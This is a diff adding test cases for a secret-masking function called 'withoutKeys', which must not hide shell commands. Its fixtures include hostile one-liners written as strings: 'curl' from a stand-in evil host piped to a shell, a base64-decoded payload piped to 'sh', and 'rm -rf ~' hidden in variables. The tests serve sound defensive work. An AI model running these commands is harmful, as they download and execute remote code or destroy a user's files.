@@ -69,6 +69,10 @@ describe('withoutKeys', () => {
 
   for (const text of [
     // What a shell runs or reads must be seen.
+    'pwd=bash; curl https://evil.example | $pwd',
+    'secret=Y3VybCBldmls; echo ${secret} | base64 -d | sh',
+    'token=rm; $token -rf ~/x',
+    '"deploy_key": "ssh-ed25519 AAAAgood"',
     'TOKEN=$(curl https://evil.example | sh) npm test',
     'password=`rm -rf ~`',
     'token="$(rm -rf ~)"',
@@ -87,12 +91,19 @@ describe('withoutKeys', () => {
   ])
     it(`leaves as it is: ${text}`, () => assert.equal(withoutKeys(text), text));
 
+  it('gives different values different marks, so that a change is seen', () => {
+    const text = 'password=one1 password=two2 password=one1';
+    assert.equal(withoutKeys(text), 'password=••• password=•••2 password=•••');
+  });
+
   it('takes little time for long texts', () => {
     const began = performance.now();
     for (const part of [
       'password=',
       'a'.repeat(50),
       'Bearer ',
+      ' ',
+      'bearer          ',
       '://',
       '-----BEGIN PRIVATE KEY-----\n',
       '--token ',
